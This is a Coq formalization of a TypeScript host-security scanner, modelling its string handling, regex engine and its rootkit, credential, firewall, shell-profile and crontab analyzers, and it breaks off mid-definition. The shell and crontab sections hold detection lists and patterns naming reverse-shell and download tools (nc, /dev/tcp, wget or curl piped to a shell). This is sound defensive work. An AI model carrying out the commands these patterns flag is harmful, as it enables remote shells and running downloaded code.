(** * Sentinel-Scan: a shallow embedding of the scan pipeline

    The development follows the TypeScript sources: [core/models.ts],
    [core/scanner.ts], [cli/index.ts], [threats/index.ts], the analyzers for
    the rootkit, firewall, credentials, shell, crontab and network modules,
    and the module errors of the terminal report.

    JavaScript strings are sequences of UTF-16 code units; they are modelled
    as lists of code units, so [length], [slice], [trim] and the regular
    expression classes read as they do in the language. *)

From Stdlib Require Import String Ascii NArith ZArith List Lia Bool.
From Stdlib Require DecimalString DecimalNat.
From stdpp Require Import base list gmap.
Import ListNotations.

(** ** JavaScript strings *)

Module JS.

Abbreviation jsstring := (list N).

(** A source literal (ASCII text) as a string of code units. *)
Definition js (s : string) : jsstring :=
  map N_of_ascii (list_ascii_of_string s).
Arguments js s%_string.

(** The double quote, which the templates of the analyzers embed. *)
Definition dq : jsstring := [34%N].

Definition char_eqb (a b : N) : bool := N.eqb a b.

(** [a === b] on strings. *)
Fixpoint str_eqb (a b : jsstring) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => char_eqb x y && str_eqb a' b'
  | _, _ => false
  end.

(** [s.startsWith(p)] *)
Fixpoint startsWith (s p : jsstring) : bool :=
  match p, s with
  | [], _ => true
  | c :: p', d :: s' => char_eqb c d && startsWith s' p'
  | _ :: _, [] => false
  end.

(** [s.includes(p)] *)
Fixpoint includes (s p : jsstring) : bool :=
  startsWith s p ||
  match s with
  | [] => false
  | _ :: s' => includes s' p
  end.

(** WhiteSpace and LineTerminator code units of ECMAScript: the set that
    [String.prototype.trim] strips and that [\s] matches. *)
Definition isWhiteSpace (c : N) : bool :=
  ((9 <=? c) && (c <=? 13) || (c =? 32) || (c =? 160) || (c =? 5760)
   || (8192 <=? c) && (c <=? 8202) || (c =? 8232) || (c =? 8233)
   || (c =? 8239) || (c =? 8287) || (c =? 12288) || (c =? 65279))%N.

Fixpoint trimStart (s : jsstring) : jsstring :=
  match s with
  | c :: s' => if isWhiteSpace c then trimStart s' else s
  | [] => []
  end.

Definition trimEnd (s : jsstring) : jsstring := rev (trimStart (rev s)).

(** [s.trim()] *)
Definition trim (s : jsstring) : jsstring := trimEnd (trimStart s).

(** [s.split(sep)] for a one-unit separator: always at least one piece. *)
Fixpoint split (sep : N) (s : jsstring) : list jsstring :=
  match s with
  | [] => [[]]
  | c :: s' =>
      if char_eqb c sep then [] :: split sep s'
      else match split sep s' with
           | p :: ps => (c :: p) :: ps
           | [] => [[c]]
           end
  end.

Definition newline : N := 10%N.

(** [xs.join(sep)] *)
Fixpoint join (sep : jsstring) (xs : list jsstring) : jsstring :=
  match xs with
  | [] => []
  | [x] => x
  | x :: rest => x ++ sep ++ join sep rest
  end.

(** [s.slice(0, max)] for [max >= 0]. *)
Definition slice0 (s : jsstring) (max : nat) : jsstring := firstn max s.

(** [String(n)] for a non-negative integer. *)
Definition String_nat (n : nat) : jsstring :=
  js (DecimalString.NilZero.string_of_uint (Nat.to_uint n)).

(** [s.padStart(target, fill)] *)
Definition padStart (s : jsstring) (target : nat) (fill : jsstring) : jsstring :=
  let missing := target - length s in
  firstn missing (concat (repeat fill missing)) ++ s.

(** ASCII letters fold under the [i] flag and [toLowerCase]. *)
Definition isUpperAscii (c : N) : bool := ((65 <=? c) && (c <=? 90))%N.
Definition isLowerAscii (c : N) : bool := ((97 <=? c) && (c <=? 122))%N.
Definition isDigit (c : N) : bool := ((48 <=? c) && (c <=? 57))%N.

(** [\w]: letters, digits and the underscore. *)
Definition isWordChar (c : N) : bool :=
  isUpperAscii c || isLowerAscii c || isDigit c || (c =? 95)%N.

(** [s.toLowerCase()] on ASCII text; the analyzers take the full Unicode
    mapping as a parameter and this function instantiates it on ASCII data. *)
Definition asciiLower (s : jsstring) : jsstring :=
  map (fun c => if isUpperAscii c then (c + 32)%N else c) s.

(** A JavaScript number that holds an integer in the safe range, or NaN
    (what [parseInt] returns on text that is not a number). *)
Inductive jsnumber : Type :=
| NaN
| Int (z : Z).

(** [String(x)] *)
Definition String_number (x : jsnumber) : jsstring :=
  match x with
  | NaN => js "NaN"
  | Int z =>
      if (z <? 0)%Z then js "-" ++ String_nat (Z.to_nat (- z))
      else String_nat (Z.to_nat z)
  end.

(** Opaque structured payloads ([Record<string, unknown>]). *)
#[local] Unset Elimination Schemes.
Inductive jsval : Type :=
| JNull
| JBool (b : bool)
| JNum (n : jsnumber)
| JStr (s : jsstring)
| JArr (items : list jsval)
| JObj (fields : list (jsstring * jsval)).
#[local] Set Elimination Schemes.

Definition JStrs (xs : list jsstring) : jsval := JArr (map JStr xs).

End JS.
Import JS.

(** ** Data model ([core/models.ts]) *)

Inductive Severity : Type := INFO | LOW | MEDIUM | HIGH | CRITICAL.

(** The numeric value of each member of the enum. *)
Definition Severity_value (s : Severity) : Z :=
  match s with
  | INFO => 0 | LOW => 1 | MEDIUM => 2 | HIGH => 3 | CRITICAL => 4
  end.

Definition Severity_eqb (a b : Severity) : bool :=
  (Severity_value a =? Severity_value b)%Z.

Definition Severity_gtb (a b : Severity) : bool :=
  (Severity_value a >? Severity_value b)%Z.

Record Finding : Type := mkFinding {
  id : jsstring;
  module : jsstring;
  severity : Severity;
  title : jsstring;
  description : jsstring;
  details : option jsval;
  remediation : option jsstring
}.

Inductive Status : Type :=
| CLEAN | INFORMATIONAL | WARNINGS | THREATS_FOUND | COMPROMISED.

Record Summary : Type := mkSummary {
  total : nat;
  critical : nat;
  high : nat;
  medium : nat;
  low : nat;
  info : nat;
  status : Status;
  maxSeverity : Severity
}.

(** ** Summary ([core/scanner.ts], [buildSummary]) *)

Record Counts : Type := mkCounts {
  c_critical : nat; c_high : nat; c_medium : nat; c_low : nat; c_info : nat
}.

(** One iteration of the loop over the findings. *)
Definition countStep (st : Counts * Severity) (f : Finding) : Counts * Severity :=
  let '(counts, maxSev) := st in
  let counts' :=
    if Severity_eqb (severity f) CRITICAL then
      mkCounts (S (c_critical counts)) (c_high counts) (c_medium counts) (c_low counts) (c_info counts)
    else if Severity_eqb (severity f) HIGH then
      mkCounts (c_critical counts) (S (c_high counts)) (c_medium counts) (c_low counts) (c_info counts)
    else if Severity_eqb (severity f) MEDIUM then
      mkCounts (c_critical counts) (c_high counts) (S (c_medium counts)) (c_low counts) (c_info counts)
    else if Severity_eqb (severity f) LOW then
      mkCounts (c_critical counts) (c_high counts) (c_medium counts) (S (c_low counts)) (c_info counts)
    else
      mkCounts (c_critical counts) (c_high counts) (c_medium counts) (c_low counts) (S (c_info counts)) in
  let maxSev' := if Severity_gtb (severity f) maxSev then severity f else maxSev in
  (counts', maxSev').

Definition statusOf (counts : Counts) : Status :=
  if 0 <? c_critical counts then COMPROMISED
  else if 0 <? c_high counts then THREATS_FOUND
  else if 0 <? c_medium counts then WARNINGS
  else if (0 <? c_low counts) || (0 <? c_info counts) then INFORMATIONAL
  else CLEAN.

Definition buildSummary (findings : list Finding) : Summary :=
  let '(counts, maxSev) :=
    fold_left countStep findings (mkCounts 0 0 0 0 0, INFO) in
  mkSummary (length findings)
            (c_critical counts) (c_high counts) (c_medium counts)
            (c_low counts) (c_info counts)
            (statusOf counts) maxSev.

(** ** Exit code ([cli/index.ts], [severityToExitCode]) *)

(** The [switch] has a [default] branch; every member of [Severity] is
    covered by a [case] before it. *)
Definition severityToExitCode (s : Severity) : Z :=
  match s with
  | CRITICAL | HIGH => 3
  | MEDIUM => 2
  | LOW | INFO => 1
  end.

(** ** Regular expressions

    The fragment of ECMAScript patterns that the analyzers use, with the
    backtracking semantics of the language: alternatives are tried left to
    right, quantifiers are greedy, and an iteration of [*] that consumes
    nothing is rejected. *)

Module RegExp.

Inductive regex : Type :=
| Empty
| Char (p : N -> bool)
| Seq (a b : regex)
| Alt (a b : regex)
| Star (a : regex)
| WordBoundary
| InputStart.

Definition Plus (a : regex) : regex := Seq a (Star a).

Definition isWordAt (c : option N) : bool :=
  match c with
  | Some x => isWordChar x
  | None => false
  end.

(** A continuation receives the unit before the position and the rest of
    the input, and answers with the rest of the input after the whole match. *)
Definition cont : Type := option N -> jsstring -> option jsstring.

Fixpoint run (r : regex) (prev : option N) (s : jsstring) (k : cont)
  : option jsstring :=
  match r with
  | Empty => k prev s
  | Char p =>
      match s with
      | c :: s' => if p c then k (Some c) s' else None
      | [] => None
      end
  | Seq a b => run a prev s (fun prev' s' => run b prev' s' k)
  | Alt a b =>
      match run a prev s k with
      | Some rest => Some rest
      | None => run b prev s k
      end
  | Star a =>
      (fix loop (fuel : nat) (prev : option N) (s : jsstring)
         : option jsstring :=
         match fuel with
         | O => k prev s
         | S fuel' =>
             match run a prev s
                     (fun prev' s' =>
                        if length s' <? length s then loop fuel' prev' s'
                        else None) with
             | Some rest => Some rest
             | None => k prev s
             end
         end) (length s) prev s
  | WordBoundary =>
      if xorb (isWordAt prev) (isWordAt (head s)) then k prev s else None
  | InputStart =>
      match prev with
      | None => k prev s
      | Some _ => None
      end
  end.

(** In [run], the loop of [Star] is given as many rounds as the input has
    units left: a round that consumes nothing is rejected, so no more rounds
    can succeed.

    The match that starts at the current position, if any. *)
Definition matchHere (r : regex) (prev : option N) (s : jsstring)
  : option jsstring :=
  match run r prev s (fun _ rest => Some rest) with
  | Some rest => Some (firstn (length s - length rest) s)
  | None => None
  end.

(** The leftmost match: the start position moves right until one succeeds. *)
Fixpoint execFrom (r : regex) (prev : option N) (s : jsstring)
  : option jsstring :=
  match matchHere r prev s with
  | Some m => Some m
  | None =>
      match s with
      | [] => None
      | c :: s' => execFrom r (Some c) s'
      end
  end.

(** [re.exec(s)]: the matched text [m[0]], or [None] for [null]. *)
Definition exec (r : regex) (s : jsstring) : option jsstring :=
  execFrom r None s.

(** [re.test(s)] *)
Definition test (r : regex) (s : jsstring) : bool :=
  match exec r s with
  | Some _ => true
  | None => false
  end.

(** *** Pattern constructors *)

Fixpoint seqs (rs : list regex) : regex :=
  match rs with
  | [] => Empty
  | [r] => r
  | r :: rs' => Seq r (seqs rs')
  end.

Fixpoint alts (rs : list regex) : regex :=
  match rs with
  | [] => Empty
  | [r] => r
  | r :: rs' => Alt r (alts rs')
  end.

(** A literal, case-sensitive. *)
Definition lit (s : string) : regex :=
  seqs (map (fun c => Char (N.eqb c)) (js s)).

(** Canonicalization under the [i] flag, for comparison with an ASCII
    pattern character: a lower-case ASCII letter folds to its capital, and a
    unit outside ASCII never folds into ASCII. *)
Definition canonicalize (c : N) : N :=
  if isLowerAscii c then (c - 32)%N else c.

(** A literal under the [i] flag. *)
Definition lit_i (s : string) : regex :=
  seqs (map (fun c => Char (fun d => N.eqb (canonicalize d) (canonicalize c)))
            (js s)).

(** [.]: anything but a line terminator. *)
Definition dot : regex :=
  Char (fun c => negb ((c =? 10) || (c =? 13) || (c =? 8232) || (c =? 8233))%N).

(** [\s], [\S], [\w] and [[^/]]. *)
Definition space : regex := Char isWhiteSpace.
Definition nonSpace : regex := Char (fun c => negb (isWhiteSpace c)).
Definition word : regex := Char isWordChar.
Definition notSlash : regex := Char (fun c => negb (c =? 47)%N).

End RegExp.

(** ** Threat intelligence store ([threats/index.ts]) *)

Module ThreatDB.

Record PortEntry : Type := mkPortEntry {
  port : Z;
  name : jsstring;
  severity : jsstring;
  direction : jsstring
}.

(** The store; of its six tables the port table is the one that the
    properties below read. *)
Record t : Type := mkThreatDB {
  ports : list PortEntry
}.

(** The type of the [direction] argument of [matchPort]. *)
Inductive Direction : Type := listening | outbound.

Definition Direction_string (d : Direction) : jsstring :=
  match d with
  | listening => js "listening"
  | outbound => js "outbound"
  end.

(** The loop of [matchPort] over the stored table, first hit returned. *)
Fixpoint matchPortIn (entries : list PortEntry) (p : Z) (dir : jsstring)
  : option PortEntry :=
  match entries with
  | [] => None
  | entry :: rest =>
      if (port entry =? p)%Z
         && (str_eqb (direction entry) dir
             || str_eqb (direction entry) (js "outbound"))
      then Some entry
      else matchPortIn rest p dir
  end.

Definition matchPort (db : t) (p : Z) (d : Direction) : option PortEntry :=
  let dir :=
    if str_eqb (Direction_string d) (js "listening") then js "listening"
    else js "outbound" in
  matchPortIn (ports db) p dir.

End ThreatDB.

(** ** Analyzers

    Every analyzer pushes findings onto a local array and numbers them with
    a local counter ([nextId]); the two are threaded explicitly. *)

Record Emitter : Type := mkEmitter {
  emitted : list Finding;
  counter : nat
}.

Definition emitter0 : Emitter := mkEmitter [] 0.

(** [nextId()]: the counter is incremented, then formatted. *)
Definition nextId (prefix : jsstring) (e : Emitter) : jsstring * Emitter :=
  let c := S (counter e) in
  (prefix ++ js "-" ++ padStart (String_nat c) 3 (js "0"),
   mkEmitter (emitted e) c).

(** [findings.push({ id: nextId(), ... })] *)
Definition push (prefix : jsstring) (mk : jsstring -> Finding) (e : Emitter)
  : Emitter :=
  let '(i, e') := nextId prefix e in
  mkEmitter (emitted e' ++ [mk i]) (counter e').

(** [truncate(s, max)], the private helper of the crontab and shell
    analyzers. *)
Definition truncate (s : jsstring) (max : nat) : jsstring :=
  if max <? length s then slice0 s max ++ js "..." else s.

(** *** Rootkit ([RootkitAnalyzer]) *)

Module RootkitAnalyzer.

(** The fields of [data.data] that the analyzer reads; [None] stands for a
    missing ([undefined] or [null]) field. *)
Record Data : Type := mkData {
  ldPreload : option jsstring;
  suspiciousSoFiles : option (list jsstring);
  etcDataExists : option bool;
  etcDataFiles : option (list jsstring)
}.

Definition moduleName : jsstring := js "rootkit".
Definition prefix : jsstring := js "RK".

Definition preloadFinding (preloadEntries : list jsstring)
  (preloadContent : jsstring) (i : jsstring) : Finding :=
  mkFinding i moduleName CRITICAL
    (js "LD_PRELOAD rootkit detected")
    (concat
      [js "/etc/ld.so.preload contains entries: ";
       join (js ", ") preloadEntries;
       js ". This file forces shared libraries to be loaded into every process, which is the primary mechanism for userland rootkits (e.g., Jynx, Azazel, libprocesshider)."])
    (Some (JObj [(js "file", JStr (js "/etc/ld.so.preload"));
                 (js "entries", JStrs preloadEntries);
                 (js "rawContent", JStr preloadContent)]))
    (Some (js "This is a strong indicator of active compromise. 1) Record the preloaded library paths. 2) Remove or empty /etc/ld.so.preload. 3) Delete the malicious .so files. 4) Restart sshd and critical services. 5) Audit the system for additional persistence mechanisms.")).

Definition soFinding (soFile : jsstring) (i : jsstring) : Finding :=
  mkFinding i moduleName HIGH
    (js "Suspicious shared library in non-standard location")
    (concat
      [js "Found .so file at "; dq; soFile; dq;
       js ". Shared libraries outside of standard library paths (/usr/lib, /lib) are often rootkit components or injected libraries."])
    (Some (JObj [(js "path", JStr soFile)]))
    (Some (concat
      [js "Inspect the shared library with "; dq; js "file "; soFile; dq;
       js " and "; dq; js "strings "; soFile; dq;
       js ". Check if it is referenced in /etc/ld.so.preload or LD_PRELOAD. Remove it if it is not legitimate."])).

Definition etcDataFinding (etcDataFiles : list jsstring) (i : jsstring)
  : Finding :=
  mkFinding i moduleName CRITICAL
    (js "Known malware directory /etc/data detected (Kinsing)")
    (concat
      [js "The directory /etc/data exists with ";
       String_nat (length etcDataFiles);
       js " entries. This is a well-known indicator of the Kinsing cryptomining malware, which stores its payloads and configuration in this directory."])
    (Some (JObj [(js "path", JStr (js "/etc/data"));
                 (js "files", JStrs etcDataFiles)]))
    (Some (js "1) Kill any Kinsing-related processes (kdevtmpfsi, kinsing). 2) Remove /etc/data and its contents. 3) Check crontabs and systemd for persistence entries. 4) Patch the vulnerability that allowed initial access (commonly Docker API, Redis, or Log4j).")).

(** The library paths that the preload file names: its trimmed lines that
    are neither empty nor comments. *)
Definition preloadEntriesOf (preloadContent : jsstring) : list jsstring :=
  List.filter (fun l => (0 <? length l) && negb (startsWith l (js "#")))
              (map trim (split newline preloadContent)).

Definition analyze (data : Data) : list Finding :=
  let ldPreload := default [] (ldPreload data) in
  let suspiciousSoFiles := default [] (suspiciousSoFiles data) in
  let etcDataExists := default false (etcDataExists data) in
  let etcDataFiles := default [] (etcDataFiles data) in
  (* 1. Any content in /etc/ld.so.preload = CRITICAL *)
  let preloadContent := trim ldPreload in
  let e1 :=
    if 0 <? length preloadContent then
      push prefix (preloadFinding (preloadEntriesOf preloadContent)
                                  preloadContent) emitter0
    else emitter0 in
  (* 2. Suspicious .so files *)
  let e2 :=
    fold_left (fun e soFile => push prefix (soFinding soFile) e)
              suspiciousSoFiles e1 in
  (* 3. /etc/data directory exists = CRITICAL *)
  let e3 :=
    if etcDataExists then push prefix (etcDataFinding etcDataFiles) e2
    else e2 in
  emitted e3.

End RootkitAnalyzer.

(** *** Credentials ([CredentialAnalyzer]) *)

Module CredentialAnalyzer.

Record EnvFile : Type := mkEnvFile {
  path : jsstring;
  size : jsstring
}.

Record Data : Type := mkData {
  envFiles : option (list EnvFile);
  serviceAccountKeys : option (list jsstring);
  gitCredentials : option jsstring;
  sshPrivateKeys : option (list jsstring)
}.

Definition moduleName : jsstring := js "credentials".
Definition prefix : jsstring := js "CRED".

Section Analyze.

(** [formatSize] renders a byte count through floating-point division and
    [toFixed]; it only shapes the text of the environment-file finding and
    is kept abstract. *)
Variable formatSize : jsstring -> jsstring.

Definition envFinding (envFile : EnvFile) (i : jsstring) : Finding :=
  mkFinding i moduleName MEDIUM
    (js "Environment file with potential secrets")
    (concat
      [js "Found .env file at "; dq; path envFile; dq; js " (";
       formatSize (size envFile);
       js "). Environment files commonly contain API keys, database passwords, and other secrets that should not be stored on disk in production."])
    (Some (JObj [(js "path", JStr (path envFile));
                 (js "size", JStr (size envFile))]))
    (Some (concat
      [js "Review the contents of "; dq; path envFile; dq;
       js " for secrets. Migrate secrets to a vault solution (e.g., HashiCorp Vault, AWS Secrets Manager) or encrypted environment variables. Remove the file from disk if it is not actively needed."])).

Definition keyFinding (keyPath : jsstring) (i : jsstring) : Finding :=
  mkFinding i moduleName HIGH
    (js "Service account key file on disk")
    (concat
      [js "Found service account / credentials JSON file at "; dq; keyPath; dq;
       js ". Service account keys grant programmatic access to cloud resources and are high-value targets for attackers."])
    (Some (JObj [(js "path", JStr keyPath)]))
    (Some (js "Rotate the service account key immediately via the cloud provider console. Use workload identity, instance metadata, or a secrets manager instead of key files on disk. Remove the file after rotation.")).

Definition gitFinding (credCount : nat) (i : jsstring) : Finding :=
  mkFinding i moduleName MEDIUM
    (js "Git credentials stored in plaintext")
    (concat
      [js "Found "; String_nat credCount; js " credential";
       (if credCount =? 1 then [] else js "s");
       js " in /root/.git-credentials. These are stored in plaintext and grant access to Git repositories (potentially including private source code and infrastructure-as-code)."])
    (Some (JObj [(js "path", JStr (js "/root/.git-credentials"));
                 (js "credentialCount", JNum (Int (Z.of_nat credCount)))]))
    (Some (concat
      [js "Switch to a credential helper that uses the system keychain (";
       dq; js "git config --global credential.helper store"; dq;
       js " is insecure). Use SSH keys or personal access tokens with minimal scopes instead."])).

Definition sshKeysFinding (sshPrivateKeys : list jsstring) (i : jsstring)
  : Finding :=
  mkFinding i moduleName INFO
    (js "SSH private keys found on disk")
    (concat
      [js "Found "; String_nat (length sshPrivateKeys); js " SSH private key";
       (if length sshPrivateKeys =? 1 then [] else js "s");
       js ": "; join (js ", ") sshPrivateKeys;
       js ". While SSH keys are a normal authentication mechanism, their presence should be tracked and their permissions verified."])
    (Some (JObj [(js "count", JNum (Int (Z.of_nat (length sshPrivateKeys))));
                 (js "paths", JStrs sshPrivateKeys)]))
    (Some (concat
      [js "Ensure all private keys have permissions set to 600 (";
       dq; js "chmod 600 <key>"; dq;
       js "). Remove any keys that are no longer needed. Consider using an SSH agent or hardware security key for additional protection."])).

Definition analyze (data : Data) : list Finding :=
  let envFiles := default [] (envFiles data) in
  let serviceAccountKeys := default [] (serviceAccountKeys data) in
  let gitCredentials := gitCredentials data in
  let sshPrivateKeys := default [] (sshPrivateKeys data) in
  (* 1. .env files on disk *)
  let e1 :=
    fold_left (fun e envFile => push prefix (envFinding envFile) e)
              envFiles emitter0 in
  (* 2. Service account keys on disk *)
  let e2 :=
    fold_left (fun e keyPath =>
                 if length (trim keyPath) =? 0 then e
                 else push prefix (keyFinding keyPath) e)
              serviceAccountKeys e1 in
  (* 3. Git credentials stored in plaintext *)
  let e3 :=
    match gitCredentials with
    | Some text =>
        if 0 <? length text then
          let credCount :=
            length (List.filter (fun l => 0 <? length (trim l))
                                (split newline text)) in
          push prefix (gitFinding credCount) e2
        else e2
    | None => e2
    end in
  (* 4. SSH private keys (informational) *)
  let e4 :=
    if 0 <? length sshPrivateKeys then
      push prefix (sshKeysFinding sshPrivateKeys) e3
    else e3 in
  emitted e4.

End Analyze.

End CredentialAnalyzer.

(** *** Firewall ([FirewallAnalyzer]) *)

Module FirewallAnalyzer.

Import RegExp.

Record UfwData : Type := mkUfwData {
  active : bool;
  rules : jsstring
}.

Record Fail2banData : Type := mkFail2banData {
  running : bool;
  jails : list jsstring;
  sshdStatus : jsstring
}.

Record Data : Type := mkData {
  ufw : option UfwData;
  fail2ban : option Fail2banData;
  iptables : option jsstring
}.

Definition moduleName : jsstring := js "firewall".
Definition prefix : jsstring := js "FW".

(** The patterns of [isSshOpenToAll]. *)
Definition RE_22 : regex := seqs [WordBoundary; lit "22"; WordBoundary].
Definition RE_ssh : regex := seqs [WordBoundary; lit_i "ssh"; WordBoundary].
Definition RE_allow_in : regex := seqs [lit_i "ALLOW"; Plus space; lit_i "IN"].
Definition RE_anywhere : regex := lit_i "Anywhere".
Definition RE_dpt22 : regex := lit "dpt:22".
Definition RE_any_source : regex := lit "0.0.0.0/0".
Definition RE_accept : regex := lit "ACCEPT".
Definition RE_policy_accept : regex :=
  seqs [lit_i "Chain INPUT"; Star dot; lit_i "policy ACCEPT"].

(** The loop over the UFW rules: [true] as soon as a rule on SSH allows
    traffic in from anywhere. *)
Fixpoint ufwAllowsSshFromAnywhere (lines : list jsstring) : bool :=
  match lines with
  | [] => false
  | line :: rest =>
      if negb (test RE_22 line) && negb (test RE_ssh line) then
        ufwAllowsSshFromAnywhere rest
      else if test RE_allow_in line && test RE_anywhere line then true
      else ufwAllowsSshFromAnywhere rest
  end.

(** The loop over the iptables listing, with its [inInputChain] flag. *)
Fixpoint iptablesAcceptsSsh (inInputChain : bool) (lines : list jsstring)
  : bool :=
  match lines with
  | [] => false
  | line :: rest =>
      if startsWith line (js "Chain INPUT") then iptablesAcceptsSsh true rest
      else if startsWith line (js "Chain") then iptablesAcceptsSsh false rest
      else if negb inInputChain then iptablesAcceptsSsh inInputChain rest
      else if test RE_dpt22 line && test RE_any_source line
                && test RE_accept line then true
      else iptablesAcceptsSsh inInputChain rest
  end.

Definition isSshOpenToAll (ufw : UfwData) (iptables : jsstring) : bool :=
  if active ufw && (0 <? length (rules ufw)) then
    ufwAllowsSshFromAnywhere (split newline (rules ufw))
  else if (0 <? length iptables)
          && (iptablesAcceptsSsh false (split newline iptables)
              || test RE_policy_accept iptables) then true
  else if negb (active ufw) then true
  else false.

Definition ufwInactiveFinding (i : jsstring) : Finding :=
  mkFinding i moduleName HIGH
    (js "UFW firewall is not active")
    (js "The Uncomplicated Firewall (UFW) is not active. Without a host firewall, all listening services are exposed to the network. This significantly increases the attack surface.")
    (Some (JObj [(js "ufwActive", JBool false)]))
    (Some (concat
      [js "Enable UFW with sensible defaults: "; dq;
       js "ufw default deny incoming && ufw default allow outgoing && ufw allow ssh && ufw --force enable";
       dq; js ". Adjust rules based on required services."])).

Definition noFail2banFinding (i : jsstring) : Finding :=
  mkFinding i moduleName MEDIUM
    (js "Fail2ban is not running")
    (js "Fail2ban is not installed or not running. Without fail2ban, the server has no automated brute-force protection for SSH and other services.")
    (Some (JObj [(js "fail2banRunning", JBool false)]))
    (Some (concat
      [js "Install and configure fail2ban: "; dq; js "apt install fail2ban -y";
       dq;
       js ". Enable at minimum the sshd jail by creating /etc/fail2ban/jail.local with ";
       dq; js "[sshd]\nenabled = true"; dq; js "."])).

Definition noSshdJailFinding (jails : list jsstring) (i : jsstring) : Finding :=
  mkFinding i moduleName MEDIUM
    (js "Fail2ban sshd jail is not active")
    (js "Fail2ban is running but the sshd jail is not active. SSH brute-force attacks will not be automatically blocked.")
    (Some (JObj [(js "jails", JStrs jails)]))
    (Some (concat
      [js "Enable the sshd jail in /etc/fail2ban/jail.local: "; dq;
       js "[sshd]\nenabled = true"; dq; js " and restart fail2ban."])).

Definition sshOpenFinding (i : jsstring) : Finding :=
  mkFinding i moduleName MEDIUM
    (js "SSH is not restricted by firewall")
    (js "SSH (port 22) appears to be accessible from any source address (0.0.0.0/0). Restricting SSH access to known IP ranges reduces exposure to brute-force attacks and zero-day exploits.")
    (Some (JObj [(js "sshRestricted", JBool false)]))
    (Some (concat
      [js "Restrict SSH access to specific IP addresses or ranges: "; dq;
       js "ufw delete allow ssh && ufw allow from <trusted-ip>/32 to any port 22";
       dq; js ". Consider using a VPN or bastion host for remote access."])).

Section Analyze.

(** [String.prototype.toLowerCase], the Unicode mapping of the language. *)
Variable toLowerCase : jsstring -> jsstring.

Definition analyze (data : Data) : list Finding :=
  let ufw := default (mkUfwData false []) (ufw data) in
  let fail2ban := default (mkFail2banData false [] []) (fail2ban data) in
  let iptables := default [] (iptables data) in
  (* 1. UFW not active *)
  let e1 :=
    if negb (active ufw) then push prefix ufwInactiveFinding emitter0
    else emitter0 in
  (* 2. No fail2ban *)
  let e2 :=
    if negb (running fail2ban) then push prefix noFail2banFinding e1
    else
      let hasSshdJail :=
        existsb (fun j => str_eqb (toLowerCase j) (js "sshd")
                          || str_eqb (toLowerCase j) (js "ssh"))
                (jails fail2ban) in
      if negb hasSshdJail then
        push prefix (noSshdJailFinding (jails fail2ban)) e1
      else e1 in
  (* 3. SSH not restricted (open to 0.0.0.0) *)
  let e3 :=
    if isSshOpenToAll ufw iptables then push prefix sshOpenFinding e2
    else e2 in
  emitted e3.

End Analyze.

End FirewallAnalyzer.

(** *** Shell profiles ([ShellAnalyzer]) *)

Module ShellAnalyzer.

Record SuspiciousEntry : Type := mkSuspiciousEntry {
  file : jsstring;
  line : jsstring;
  lineNumber : jsnumber;
  matchedPattern : jsstring
}.

Record Data : Type := mkData {
  suspiciousEntries : option (list SuspiciousEntry)
}.

Definition moduleName : jsstring := js "shell".
Definition prefix : jsstring := js "SHELL".

(** Patterns that indicate active exploitation or reverse shells. *)
Definition HIGH_SEVERITY_PATTERNS : list jsstring :=
  [js "wget"; js "curl"; js "nc"; js "ncat"; js "eval"; js "/dev/tcp";
   js "/dev/udp"; js ".onion"].

(** Patterns that indicate obfuscation or indirect execution. *)
Definition MEDIUM_SEVERITY_PATTERNS : list jsstring :=
  [js "base64"; js "exec"; js "python.*http"].

(** [set.has(x)] *)
Definition has (set : list jsstring) (x : jsstring) : bool :=
  existsb (str_eqb x) set.

Section Analyze.

Variable toLowerCase : jsstring -> jsstring.

Definition classifySeverity (pattern : jsstring) : Severity :=
  let lower := toLowerCase pattern in
  if has HIGH_SEVERITY_PATTERNS lower then HIGH
  else if has MEDIUM_SEVERITY_PATTERNS lower then MEDIUM
  else if existsb (fun p => includes lower p || includes p lower)
                  MEDIUM_SEVERITY_PATTERNS then MEDIUM
  else HIGH.

Definition describePattern (pattern : jsstring) : jsstring :=
  let lower := toLowerCase pattern in
  if str_eqb lower (js "wget") || str_eqb lower (js "curl") then
    js "download tool"
  else if str_eqb lower (js "nc") || str_eqb lower (js "ncat") then
    js "network utility (potential reverse shell)"
  else if str_eqb lower (js "eval") || str_eqb lower (js "exec") then
    js "dynamic code execution"
  else if str_eqb lower (js "base64") then js "encoding/obfuscation"
  else if includes lower (js "/dev/tcp") || includes lower (js "/dev/udp") then
    js "bash network redirection"
  else if includes lower (js ".onion") then js "Tor hidden service reference"
  else if includes lower (js "python") && includes lower (js "http") then
    js "Python HTTP server/client"
  else js "suspicious command".

(** The text of a finding's description around the quoted line. *)
Definition describe (entry : SuspiciousEntry) (category quoted : jsstring)
  : jsstring :=
  concat
    [js "File "; dq; file entry; dq; js " line ";
     String_number (lineNumber entry); js " contains a "; category;
     js " pattern ("; dq; matchedPattern entry; dq; js "): "; dq;
     quoted; dq;
     js ". Shell profile files run on every login and are a common persistence mechanism for malware."].

Definition entryFinding (entry : SuspiciousEntry) (i : jsstring) : Finding :=
  let severity := classifySeverity (matchedPattern entry) in
  let category := describePattern (matchedPattern entry) in
  mkFinding i moduleName severity
    (concat [js "Suspicious pattern in shell profile: "; matchedPattern entry])
    (describe entry category (truncate (trim (line entry)) 150))
    (Some (JObj [(js "file", JStr (file entry));
                 (js "lineNumber", JNum (lineNumber entry));
                 (js "line", JStr (line entry));
                 (js "matchedPattern", JStr (matchedPattern entry))]))
    (Some (concat
      [js "Review line "; String_number (lineNumber entry); js " of "; dq;
       file entry; dq;
       js ". If the entry is not expected, remove it and investigate how it was added. Check recent modification times with ";
       dq; js "stat "; file entry; dq; js "."])).

Definition analyze (data : Data) : list Finding :=
  let suspiciousEntries := default [] (suspiciousEntries data) in
  emitted (fold_left (fun e entry => push prefix (entryFinding entry) e)
                     suspiciousEntries emitter0).

End Analyze.

End ShellAnalyzer.

(** *** Crontabs ([CrontabAnalyzer]) *)

Module CrontabAnalyzer.

Import RegExp.

Record UserCrontab : Type := mkUserCrontab {
  user : jsstring;
  uc_content : jsstring
}.

Record CronDirEntry : Type := mkCronDirEntry {
  cd_name : jsstring;
  cd_content : jsstring
}.

Record Data : Type := mkData {
  rootCrontab : option jsstring;
  systemCrontab : option jsstring;
  cronDirs : option (list CronDirEntry);
  userCrontabs : option (list UserCrontab)
}.

(** An element of the unified [sources] list. *)
Record Source : Type := mkSource {
  label : jsstring;
  content : jsstring
}.

Definition moduleName : jsstring := js "crontabs".
Definition prefix : jsstring := js "CRON".

(** wget/curl piped to a shell interpreter. *)
Definition DOWNLOAD_PIPE_RE : regex :=
  seqs [alts [lit_i "wget"; lit_i "curl"]; WordBoundary; Star dot; lit "|";
        Star space;
